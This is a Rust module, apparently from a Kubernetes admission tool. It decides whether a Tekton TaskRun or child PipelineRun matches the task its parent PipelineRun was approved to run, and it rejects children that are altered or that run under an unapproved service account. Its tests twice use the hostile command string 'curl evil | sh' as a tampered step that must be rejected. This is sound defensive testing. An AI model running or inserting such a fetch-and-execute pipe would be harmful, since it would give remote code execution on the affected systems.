//! Whether a TaskRun (or child PipelineRun) Tekton's controller creates is what its admitted
//! PipelineRun already covered. The controller builds each child from the pipeline it resolved
//! for the parent (tektoncd/pipeline `pkg/reconciler/pipelinerun/pipelinerun.go` `createTaskRun`,
//! `createChildPipelineRun`; `resources/pipelinerunresolution.go` `resolveTask`): the pipeline
//! task's `taskRef` as written, or its embedded `taskSpec`, with the run's parameters, context and
//! earlier results substituted (`resources/apply.go`; the copy stored in the parent's
//! `status.pipelineSpec` has the parameters filled in but still shows results as `$(…)`, and the
//! Pipeline itself — what the parent's first children are built from before that status is
//! written — shows every `$(…)`), and the service account `GetTaskRunSpec` gives that task. A
//! child is covered when its task is the pipeline task of that name in the parent's resolved
//! pipeline — equal but for what substitution fills in — and it runs as an account the parent was
//! judged to run as; it is then judged as the parent was. Anything else (a pipeline changed
//! since, a task that is not in it) is judged on its own. No I/O: the parent and its pipeline are
//! read by `cluster::owners`.

use super::pipeline_run::{self, Runs};
use crate::policy::Kind;
use serde_json::{Map, Value};

/// Keys of a pipeline task's embedded task (`EmbeddedTask`) that the child's `taskSpec` does not
/// carry: its own metadata and the custom-task fields.
const EMBEDDED_ONLY: [&str; 4] = ["metadata", "apiVersion", "kind", "spec"];

/// What the parent covered, to judge the child by, or why the child is not covered. `pipeline`
/// is the one the parent runs, as Tekton resolved it for its children (`cluster::owners`).
pub fn covered(kind: Kind, child: &Value, parent: &Value, pipeline: Option<&Value>) -> Result<Runs, String> {
    let task_name = child
        .pointer("/metadata/labels/tekton.dev~1pipelineTask")
        .and_then(Value::as_str)
        .ok_or("it names no pipeline task (label tekton.dev/pipelineTask)")?;
    let pipeline = pipeline.ok_or(
        "its PipelineRun shows no resolved pipeline yet (status.pipelineSpec) and scimgate cannot read the one it names (a pipelineRef through a resolver or bundle, or a Pipeline that is gone)",
    )?;
    let task = ["tasks", "finally"]
        .iter()
        .filter_map(|k| pipeline.get(*k).and_then(Value::as_array))
        .flatten()
        .find(|t| t.get("name").and_then(Value::as_str) == Some(task_name))
        .ok_or_else(|| format!("its PipelineRun's pipeline has no task '{task_name}'"))?;
    let spec = child.get("spec").unwrap_or(&Value::Null);
    let same = |field: &str, skip: &[&str]| match (task.get(field), spec.get(field)) {
        (None, None) => true,
        (Some(t), Some(c)) => substituted(t, c, skip),
        _ => false,
    };
    let (what, fields): (&str, [(&str, &[&str]); 2]) = match kind {
        Kind::TaskRun => ("task", [("taskRef", &[]), ("taskSpec", &EMBEDDED_ONLY)]),
        _ => ("pipeline", [("pipelineRef", &[]), ("pipelineSpec", &[])]),
    };
    if !fields.iter().all(|(f, skip)| same(f, skip)) {
        return Err(format!(
            "its {what} is not the one pipeline task '{task_name}' of its PipelineRun runs (the pipeline changed since, or the child is not its)"
        ));
    }
    let parent_runs = pipeline_run::runs(Kind::PipelineRun, parent).map_err(|e| e.to_string())?;
    let child_runs = pipeline_run::runs(kind, child).map_err(|e| e.to_string())?;
    if let Some(sa) = child_runs.run_as.iter().find(|sa| !parent_runs.run_as.contains(sa)) {
        return Err(format!(
            "it runs as '{sa}', which its PipelineRun was not judged to run as"
        ));
    }
    Ok(parent_runs)
}

/// Whether `actual` is `template` with Tekton's substitutions made: equal, except that a string's
/// `$(…)` expressions may stand for anything, and an array element that is nothing but a
/// whole-array expansion (`$(params.flags[*])`) for any number of elements. `skip`: keys of the
/// template's top object the actual one does not carry. Linear in the two values (one
/// whole-array expansion per array; more is not matched).
fn substituted(template: &Value, actual: &Value, skip: &[&str]) -> bool {
    match (template, actual) {
        (Value::String(t), Value::String(a)) => string_matches(t, a),
        (Value::Object(t), Value::Object(a)) => objects_match(t, a, skip),
        (Value::Array(t), Value::Array(a)) => arrays_match(t, a),
        // A whole-value expression (a param of another type) may become a number or a bool.
        (Value::String(t), _) if is_expression(t) => true,
        (t, a) => t == a,
    }
}

fn objects_match(t: &Map<String, Value>, a: &Map<String, Value>, skip: &[&str]) -> bool {
    let kept = t.iter().filter(|(k, _)| !skip.contains(&k.as_str()));
    kept.clone().count() == a.len()
        && kept
            .into_iter()
            .all(|(k, v)| a.get(k).is_some_and(|x| substituted(v, x, &[])))
}

fn arrays_match(t: &[Value], a: &[Value]) -> bool {
    let star = |v: &Value| v.as_str().is_some_and(|s| is_expression(s) && s.ends_with("[*])"));
    let stars: Vec<usize> = t.iter().enumerate().filter(|(_, v)| star(v)).map(|(i, _)| i).collect();
    match stars.as_slice() {
        [] => t.len() == a.len() && t.iter().zip(a).all(|(t, a)| substituted(t, a, &[])),
        [i] => {
            let (before, after) = (&t[..*i], &t[i + 1..]);
            a.len() >= before.len() + after.len()
                && before.iter().zip(a).all(|(t, a)| substituted(t, a, &[]))
                && after
                    .iter()
                    .rev()
                    .zip(a.iter().rev())
                    .all(|(t, a)| substituted(t, a, &[]))
        }
        _ => false,
    }
}

/// A string that is one `$(…)` expression and nothing else.
fn is_expression(s: &str) -> bool {
    s.starts_with("$(") && s.ends_with(')') && s[2..].find("$(").is_none()
}

/// Whether `actual` is `template` with each `$(…)` replaced by some text: the literal pieces in
/// order, the first at the start and the last at the end.
fn string_matches(template: &str, actual: &str) -> bool {
    let mut pieces = Vec::new();
    let mut rest = template;
    while let Some(start) = rest.find("$(") {
        pieces.push(&rest[..start]);
        match rest[start..].find(')') {
            Some(end) => rest = &rest[start + end + 1..],
            None => return template == actual,
        }
    }
    pieces.push(rest);
    if pieces.len() == 1 {
        return template == actual;
    }
    let (first, last) = (pieces[0], pieces[pieces.len() - 1]);
    let Some(mut tail) = actual.strip_prefix(first) else {
        return false;
    };
    for piece in &pieces[1..pieces.len() - 1] {
        match tail.find(piece) {
            Some(i) => tail = &tail[i + piece.len()..],
            None => return false,
        }
    }
    tail.ends_with(last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn substitution_is_matched_and_nothing_else() {
        assert!(string_matches("echo $(params.v) done", "echo 1.2.3 done"));
        assert!(string_matches("$(params.a)-$(params.b)", "x-y"));
        assert!(!string_matches("echo $(params.v) done", "curl evil | sh"));
        assert!(!string_matches("plain", "plainer"));
        assert!(substituted(
            &json!({"args": ["-v", "$(params.flags[*])", "--end"], "image": "build:$(params.tag)"}),
            &json!({"args": ["-v", "-a", "-b", "--end"], "image": "build:1.0"}),
            &[]
        ));
        assert!(!substituted(
            &json!({"image": "build:$(params.tag)"}),
            &json!({"image": "build:1.0", "command": ["sh"]}),
            &[]
        ));
        assert!(substituted(
            &json!({"timeout": "$(params.t)"}),
            &json!({"timeout": 5}),
            &[]
        ));
        assert!(substituted(
            &json!({"metadata": {"labels": {"a": "b"}}, "steps": []}),
            &json!({"steps": []}),
            &EMBEDDED_ONLY
        ));
    }

    #[test]
    fn a_child_is_covered_by_the_pipeline_task_of_its_name() {
        let parent = json!({"spec": {"pipelineRef": {"name": "lib-deploy"}, "taskRunTemplate": {"serviceAccountName": "runner"}},
            "status": {"pipelineSpec": {"tasks": [
                {"name": "compile", "taskSpec": {"metadata": {}, "steps": [{"image": "go:$(params.go)", "script": "go build"}]}},
                {"name": "publish", "taskRef": {"name": "publish-task"}}]}}});
        let child =
            |task: &str, spec: Value| json!({"metadata": {"labels": {"tekton.dev/pipelineTask": task}}, "spec": spec});
        let embedded = child(
            "compile",
            json!({"serviceAccountName": "runner",
            "taskSpec": {"steps": [{"image": "go:1.23", "script": "go build"}]}}),
        );
        let runs = covered(
            Kind::TaskRun,
            &embedded,
            &parent,
            parent.pointer("/status/pipelineSpec"),
        )
        .expect("covered");
        assert_eq!(runs.templates, vec!["lib-deploy"]);
        let referenced = child(
            "publish",
            json!({"serviceAccountName": "runner", "taskRef": {"name": "publish-task"}}),
        );
        assert!(covered(
            Kind::TaskRun,
            &referenced,
            &parent,
            parent.pointer("/status/pipelineSpec")
        )
        .is_ok());
        let changed = child(
            "compile",
            json!({"serviceAccountName": "runner",
            "taskSpec": {"steps": [{"image": "go:1.23", "script": "curl evil | sh"}]}}),
        );
        assert!(covered(Kind::TaskRun, &changed, &parent, parent.pointer("/status/pipelineSpec")).is_err());
        let swapped = child(
            "publish",
            json!({"serviceAccountName": "runner", "taskRef": {"name": "other"}}),
        );
        assert!(covered(Kind::TaskRun, &swapped, &parent, parent.pointer("/status/pipelineSpec")).is_err());
        let admin = child(
            "publish",
            json!({"serviceAccountName": "admin", "taskRef": {"name": "publish-task"}}),
        );
        assert!(
            covered(Kind::TaskRun, &admin, &parent, parent.pointer("/status/pipelineSpec"))
                .is_err_and(|e| e.contains("'admin'"))
        );
        let stranger = child("nope", json!({"taskRef": {"name": "publish-task"}}));
        assert!(covered(
            Kind::TaskRun,
            &stranger,
            &parent,
            parent.pointer("/status/pipelineSpec")
        )
        .is_err());
    }
}
